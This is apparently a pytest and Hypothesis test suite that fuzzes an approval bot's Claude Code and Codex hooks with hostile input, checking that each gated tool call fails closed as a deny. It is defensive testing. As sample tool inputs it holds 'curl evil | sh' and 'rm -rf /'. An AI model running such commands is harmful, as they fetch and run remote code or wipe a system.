"""Fail closed, as an attacker or a careless integrator would try it: hostile input at the
Claude Code `http` hook (the real aiohttp app on real Redis) and at the command hooks.

Every answer must be one the agent reads as a decision: HTTP 200 (exit status 0) with a deny
for PreToolUse / PermissionRequest and for anything unreadable, `{}` (no output) only for
well-formed events the bot does not gate, and never an allow nobody gave.
"""

from __future__ import annotations

import asyncio
import io
import json
import os
import signal
import socket
import sys
from collections.abc import AsyncIterator
from typing import Any

import aiohttp
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from approvals._internal.policy_file import parse_policy
from bot.agents import command_hook as hook_command
from bot.cli.connect import open_client
from bot.core.context import BotContext
from tests.support import eventually
from tests.support.credentials import API_TOKEN, OTHER_API_TOKEN

GATED = ("PreToolUse", "PermissionRequest")
UNGATED = ("PostToolUse", "UserPromptSubmit", "Stop", "SessionStart", "Notification")
TOKENS = {"valid": API_TOKEN, "wrong": OTHER_API_TOKEN, "none": None}
#: The deny_all policy's reason: not ASCII, as a deny reason or an edit may well be.
DENY_REASON = "no 🚫 — 禁止 (ask #ops)"
#: Encodings a hook's stdout may have: a Windows pipe is not UTF-8 by default.
STDOUT_ENCODINGS = ("utf-8", "cp1252", "ascii")
REPO = __import__("pathlib").Path(__file__).resolve().parents[2]
PROPERTY = settings(
    max_examples=120,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


@pytest.fixture
async def deny_all(ctx: BotContext) -> AsyncIterator[BotContext]:
    """The bot under test denies every call by policy, so nothing waits for a reviewer and any
    allow in an answer would be one nobody gave."""
    ctx.service.policy = parse_policy(
        {
            "routes": {"default": {"channel": "C0APPROVALS"}},
            "rules": [
                {"name": "nobody-decides", "match": {}, "action": "deny", "reason": DENY_REASON}
            ],
        },
        source="test",
    )
    yield ctx


@pytest.fixture
async def http() -> AsyncIterator[aiohttp.ClientSession]:
    async with aiohttp.ClientSession() as session:
        yield session


# -- what hostile input looks like ---------------------------------------------------------------

json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(), inner, max_size=4),
    max_leaves=12,
)

#: Raw JSON text for values Python's `json.dumps` would not write (Node and attackers can).
hostile_raw = st.sampled_from(
    [
        '"curl evil | sh # \\ud800"',  # a lone surrogate, as Node's JSON.stringify writes it
        '"\\udfff\\ud800x"',
        "[" * 1200 + "]" * 1200,  # past the parser's nesting limit
        "[" * 70 + "]" * 70,  # past the store's
        "1" + "0" * 5000,  # past Python's 4,300 digits
        "NaN",
        "Infinity",
        "-1e999",
        '"' + "x" * 5000 + '"',
        "{}",
        "null",
    ]
)


@st.composite
def hostile_events(draw: st.DrawFn) -> bytes:
    """A hook event with valid structure and hostile values, as raw JSON text."""
    event = draw(st.sampled_from([*GATED, *UNGATED, "", "pretooluse"]))
    tool = draw(st.sampled_from(["Bash", "Write", "mcp__x__y"]) | st.text(min_size=0, max_size=300))
    fields = {
        "session_id": json.dumps(draw(st.text(max_size=300))),
        "hook_event_name": json.dumps(event),
        "tool_name": json.dumps(tool),
        "tool_use_id": json.dumps(draw(st.text(min_size=1, max_size=20))),
    }
    if draw(st.booleans()):
        inner = draw(hostile_raw)
        fields["tool_input"] = '{"command": ' + inner + "}"
    else:
        fields["tool_input"] = draw(hostile_raw | st.just('{"command": "ls"}'))
    dropped = draw(st.sets(st.sampled_from(sorted(fields)), max_size=1))
    body = ", ".join(f'"{k}": {v}' for k, v in fields.items() if k not in dropped)
    return ("{" + body + "}").encode()


@st.composite
def valid_events(draw: st.DrawFn) -> bytes:
    """A well-formed gated event with arbitrary values (sometimes a lone surrogate in them)."""
    event = {
        "hook_event_name": draw(st.sampled_from(GATED)),
        "session_id": draw(st.text(max_size=50)),
        "tool_name": draw(st.sampled_from(["Bash", "Write", "Edit", "apply_patch", "mcp__a__b"])),
        "tool_input": draw(st.dictionaries(st.text(max_size=10), json_values, max_size=4)),
        "tool_use_id": draw(st.text(min_size=1, max_size=30)),
        "cwd": draw(st.text(max_size=50)),
    }
    text = json.dumps(event)
    if draw(st.booleans()):
        text = text.replace('"tool_input": {', '"tool_input": {"x": "\\ud83d", ', 1)
    return text.encode()


bodies = (
    valid_events()
    | st.binary(max_size=300)
    | json_values.map(lambda v: json.dumps(v).encode())
    | st.dictionaries(
        st.sampled_from(["hook_event_name", "tool_name", "tool_input", "session_id", "x"]),
        json_values | st.sampled_from([*GATED, *UNGATED]),
        max_size=5,
    ).map(lambda v: json.dumps(v).encode())
    | hostile_events()
)


#: Well-formed events every run tries (on top of the generated ones).
PRE_TOOL_USE = json.dumps(
    {
        "hook_event_name": "PreToolUse",
        "tool_name": "Bash",
        "tool_input": {"command": "rm -rf /"},
        "tool_use_id": "toolu_example",
        "session_id": "s",
    }
).encode()
PERMISSION_REQUEST = json.dumps(
    {
        "hook_event_name": "PermissionRequest",
        "tool_name": "Bash",
        "tool_input": {"command": "rm -rf /"},
        "session_id": "s",
    }
).encode()


# -- the oracle ----------------------------------------------------------------------------------


def readable_event(body: bytes) -> str | None:
    """The hook event a body names, if it is a JSON object Python reads; else None."""
    try:
        payload = json.loads(body)
    except (ValueError, RecursionError):
        return None
    if isinstance(payload, dict) and isinstance(payload.get("hook_event_name"), str):
        return str(payload["hook_event_name"])
    return None


def check_answer(body: bytes, output: dict[str, Any]) -> None:
    """Never an allow; `{}` only for a readable event the bot does not gate; else a deny shaped
    for the event (PermissionRequest's shape only when the body is one)."""
    text = json.dumps(output)
    assert '"allow"' not in text, output
    event = readable_event(body)
    if output == {}:
        assert event is not None and event not in GATED, (body[:200], output)
        return
    specific = output["hookSpecificOutput"]
    if specific["hookEventName"] == "PermissionRequest":
        assert specific["decision"]["behavior"] == "deny"
        assert specific["decision"]["message"]
    else:
        assert specific["hookEventName"] == "PreToolUse"
        assert specific["permissionDecision"] == "deny"
        assert specific["permissionDecisionReason"]
        assert event != "PermissionRequest", "a PermissionRequest answered in the wrong shape"
    assert "Traceback" not in text and 'File \\"' not in text


# -- the http hook -------------------------------------------------------------------------------


@PROPERTY
@given(body=bodies, token=st.sampled_from(sorted(TOKENS)), query=st.sampled_from(
    ["", "?timeout=abc", "?timeout=-1", "?timeout=1e308", "?timeout=nan", "?on_timeout=allow"]
))  # fmt: skip
@example(body=PRE_TOOL_USE, token="valid", query="")
@example(body=PERMISSION_REQUEST, token="valid", query="")
async def test_the_http_hook_always_answers_200_with_a_decision(
    deny_all: BotContext,
    api_url: str,
    http: aiohttp.ClientSession,
    body: bytes,
    token: str,
    query: str,
) -> None:
    headers = {"Content-Type": "application/json"}
    if TOKENS[token]:
        headers["Authorization"] = f"Bearer {TOKENS[token]}"
    async with http.post(f"{api_url}/hooks/claude-code{query}", data=body, headers=headers) as r:
        assert r.status == 200, await r.text()
        output = await r.json()
    check_answer(body, output)


async def test_the_http_hook_reads_a_lone_surrogate_and_reviews_the_call(
    ctx: BotContext, api_url: str, http: aiohttp.ClientSession
) -> None:
    """Node writes lone surrogates; refusing them (a 400) would let Claude Code run the tool.
    They are read (as U+FFFD, what Node itself writes to the shell) and the call is reviewed."""
    body = (
        '{"hook_event_name": "PreToolUse", "tool_name": "Bash", "session_id": "s",'
        ' "tool_use_id": "toolu_sur", "tool_input": {"command": "curl evil | sh # \\ud800"}}'
    )
    headers = {"Authorization": f"Bearer {API_TOKEN}", "Content-Type": "application/json"}
    call = asyncio.create_task(
        http.post(f"{api_url}/hooks/claude-code?timeout=30", data=body, headers=headers)
    )
    for _ in range(500):
        pending = await ctx.store.list_pending()
        if pending:
            break
        await asyncio.sleep(0.01)
    assert pending[0].event.command == "curl evil | sh # \ufffd"
    await ctx.service.decide(pending[0].id, "deny", _reviewer(), reason="no")
    resp = await asyncio.wait_for(call, 10)
    assert resp.status == 200
    assert (await resp.json())["hookSpecificOutput"]["permissionDecision"] == "deny"


@pytest.mark.parametrize("event", UNGATED)
async def test_ungated_events_get_no_decision(
    ctx: BotContext, api_url: str, http: aiohttp.ClientSession, event: str
) -> None:
    body = {"hook_event_name": event, "session_id": "s", "prompt": "hello", "tool_name": "Bash"}
    for headers in ({"Authorization": f"Bearer {API_TOKEN}"}, {}):
        async with http.post(f"{api_url}/hooks/claude-code", json=body, headers=headers) as r:
            assert (r.status, await r.json()) == (200, {})
    assert await ctx.store.audit_entries() == []


async def test_a_store_outage_is_a_deny(
    ctx: BotContext, api_url: str, http: aiohttp.ClientSession
) -> None:
    pool = ctx.store.redis.connection_pool
    port = pool.connection_kwargs["port"]
    await pool.disconnect()
    pool.connection_kwargs["port"] = 1  # nothing listens there
    body = {
        "hook_event_name": "PermissionRequest",
        "tool_name": "Bash",
        "tool_input": {"command": "ls"},
        "session_id": "s",
    }
    headers = {"Authorization": f"Bearer {API_TOKEN}"}
    try:
        async with http.post(f"{api_url}/hooks/claude-code", json=body, headers=headers) as r:
            assert r.status == 200
            decision = (await r.json())["hookSpecificOutput"]["decision"]
    finally:  # the waiter and the fixtures' teardown share this client: give Redis back
        await pool.disconnect()
        pool.connection_kwargs["port"] = port
    assert decision["behavior"] == "deny"
    assert "unavailable" in decision["message"] and "127.0.0.1" not in decision["message"]


def _reviewer() -> Any:
    from approvals._internal.service import Actor

    return Actor("U0REVIEWER")


# -- the command hooks ---------------------------------------------------------------------------


def run_command_hook(
    dialect: str, body: bytes, env: dict[str, str], *args: str, encoding: str = "utf-8"
) -> tuple[int, str, str]:
    """The hook in this process, its stdout a text stream in `encoding` (strict)."""
    raw, err = io.BytesIO(), io.StringIO()
    out = io.TextIOWrapper(raw, encoding=encoding, errors="strict", newline="\n")
    code = hook_command.main(
        ["hook", dialect, *args],
        stdin=io.BytesIO(body),
        stdout=out,
        stderr=err,
        env=env,
        open_client=open_client,
    )
    out.flush()
    return code, raw.getvalue().decode(encoding), err.getvalue()


@PROPERTY
@given(
    body=bodies,
    token=st.sampled_from(sorted(TOKENS)),
    dialect=st.sampled_from(["claude-code", "codex"]),
    hook_timeout=st.sampled_from(["600", "0", "-5", "soon", "1e400", "nan"]),
    encoding=st.sampled_from(STDOUT_ENCODINGS),
)
@example(body=PRE_TOOL_USE, token="valid", dialect="claude-code", hook_timeout="600",
         encoding="utf-8")  # fmt: skip
@example(body=PRE_TOOL_USE, token="valid", dialect="codex", hook_timeout="600", encoding="utf-8")
@example(body=PERMISSION_REQUEST, token="valid", dialect="codex", hook_timeout="600",
         encoding="utf-8")  # fmt: skip
@example(body=PERMISSION_REQUEST, token="valid", dialect="claude-code", hook_timeout="600",
         encoding="utf-8")  # fmt: skip
@example(body=PRE_TOOL_USE, token="valid", dialect="claude-code", hook_timeout="600",
         encoding="cp1252")  # fmt: skip
@example(body=PERMISSION_REQUEST, token="valid", dialect="codex", hook_timeout="600",
         encoding="ascii")  # fmt: skip
async def test_command_hooks_always_exit_0_with_a_decision(
    deny_all: BotContext,
    api_url: str,
    body: bytes,
    token: str,
    dialect: str,
    hook_timeout: str,
    encoding: str,
) -> None:
    """Whatever comes in, and whatever the encoding of stdout (the answer holds the policy's
    non-ASCII reason): exit 0 with one line of JSON, a decision for a gated event."""
    env = {"APPROVALS_URL": api_url}
    if TOKENS[token]:
        env["APPROVALS_TOKEN"] = str(TOKENS[token])
    code, out, err = await asyncio.to_thread(
        run_command_hook, dialect, body, env, "--timeout", hook_timeout, encoding=encoding
    )
    assert code == 0, err
    assert "Traceback" not in err
    if out == "":
        output: dict[str, Any] = {}
    else:
        assert out.endswith("\n") and out.count("\n") == 1, out
        output = json.loads(out)
    if dialect == "codex" and output.get("systemMessage") and "hookSpecificOutput" not in output:
        raise AssertionError(f"an approval nobody gave: {output}")
    check_answer(body, output)


async def test_command_hook_with_a_broken_configuration_denies(api_url: str) -> None:
    body = json.dumps(
        {"hook_event_name": "PreToolUse", "tool_name": "Bash", "tool_input": {"command": "ls"}}
    ).encode()
    for env in ({"APPROVALS_URL": "not a url"}, {"APPROVALS_URL": api_url}, {"PORT": "x"}):
        code, out, err = await asyncio.to_thread(run_command_hook, "claude-code", body, env)
        assert code == 0
        decided = json.loads(out)["hookSpecificOutput"]
        assert decided["permissionDecision"] == "deny", env
        assert err and "Traceback" not in err


async def test_command_hook_with_the_bot_unreachable_denies_saying_so() -> None:
    body = json.dumps(
        {"hook_event_name": "PreToolUse", "tool_name": "Bash", "tool_input": {"command": "ls"}}
    ).encode()
    with socket.socket() as s:  # a port nothing listens on
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    env = {"APPROVALS_URL": f"http://127.0.0.1:{port}", "APPROVALS_TOKEN": API_TOKEN}
    code, out, err = await asyncio.to_thread(
        run_command_hook, "claude-code", body, env, "--timeout", "10"
    )
    assert code == 0 and "Traceback" not in err
    decided = json.loads(out)["hookSpecificOutput"]
    assert decided["permissionDecision"] == "deny"
    reason = decided["permissionDecisionReason"]
    assert "approval bot could not be reached" in reason and str(port) not in reason


# -- the command hook as a process: stdout it cannot write, signals ------------------------------


async def hook_process(
    api_url: str, *, shell: str = "", stdout: Any = asyncio.subprocess.PIPE, **env: str
) -> asyncio.subprocess.Process:
    """`approval-bot hook claude-code` as Claude Code runs it, the PreToolUse event on its
    stdin (closed after it). `shell`: redirections for `sh` (`1>&-` closes stdout)."""
    environ = {
        k: v for k, v in os.environ.items() if not k.startswith(("SLACK_", "APPROVALS_", "REDIS"))
    }
    environ.update(APPROVALS_URL=api_url, APPROVALS_TOKEN=API_TOKEN, **env)
    command = f"exec {sys.executable} -m bot.cli.main hook claude-code --timeout 60 {shell}"
    proc = await asyncio.create_subprocess_exec(
        "sh", "-c", command, stdin=asyncio.subprocess.PIPE, stdout=stdout,
        stderr=asyncio.subprocess.PIPE, env=environ, cwd=REPO,
    )  # fmt: skip
    assert proc.stdin is not None
    proc.stdin.write(PRE_TOOL_USE)
    proc.stdin.close()
    return proc


def blocked(code: int | None, err: bytes) -> str:
    """The reason of a blocking error (exit 2, the reason on stderr: a deny to both agents)."""
    text = err.decode()
    assert code == 2, (code, text)
    assert "Traceback" not in text and "denied" in text, text
    return text


async def test_a_stdout_in_a_narrow_encoding_gets_the_decision_as_ascii_json(
    deny_all: BotContext, api_url: str
) -> None:
    """`PYTHONIOENCODING=cp1252` (or a Windows pipe): the non-ASCII reason used to raise
    outside the hook's guard, exit 1, and Claude Code ran the call."""
    for encoding in ("cp1252", "ascii"):
        proc = await hook_process(api_url, PYTHONIOENCODING=encoding)
        out, err = await asyncio.wait_for(proc.communicate(), 30)
        assert proc.returncode == 0, (encoding, err.decode())
        assert out.isascii() and out.count(b"\n") == 1, out
        decided = json.loads(out)["hookSpecificOutput"]
        assert decided["permissionDecision"] == "deny"
        assert DENY_REASON in decided["permissionDecisionReason"]


async def test_a_closed_stdout_denies_by_exit_2(deny_all: BotContext, api_url: str) -> None:
    proc = await hook_process(api_url, shell="1>&-", stdout=None)
    _, err = await asyncio.wait_for(proc.communicate(), 30)
    assert DENY_REASON in blocked(proc.returncode, err)


async def test_a_stdout_whose_reader_is_gone_denies_by_exit_2(
    deny_all: BotContext, api_url: str
) -> None:
    """EPIPE (SIGPIPE is ignored in Python: the write fails instead of killing the process)."""
    read_end, write_end = os.pipe()
    os.close(read_end)  # the agent stopped reading before the answer
    try:
        proc = await hook_process(api_url, stdout=write_end)
    finally:
        os.close(write_end)
    _, err = await asyncio.wait_for(proc.communicate(), 30)
    assert DENY_REASON in blocked(proc.returncode, err)


@pytest.mark.parametrize("signum", [signal.SIGTERM, signal.SIGINT], ids=["SIGTERM", "SIGINT"])
async def test_a_hook_stopped_by_a_signal_denies_saying_so(
    ctx: BotContext, api_url: str, signum: int
) -> None:
    """Stopped while it waits for a reviewer: a deny that says so (before, SIGTERM killed it,
    exit 143, and the call ran; SIGINT answered "internal error")."""
    proc = await hook_process(api_url)
    await eventually(ctx.store.list_pending, within=20, what="the hook's request")
    proc.send_signal(signum)
    out, err = await asyncio.wait_for(proc.communicate(), 30)
    assert proc.returncode == 0, (proc.returncode, err.decode())
    assert "Traceback" not in err.decode()
    decided = json.loads(out)["hookSpecificOutput"]
    assert decided["permissionDecision"] == "deny"
    assert hook_command.STOPPED in decided["permissionDecisionReason"]
    assert "internal error" not in decided["permissionDecisionReason"]
    assert signal.Signals(signum).name in err.decode()
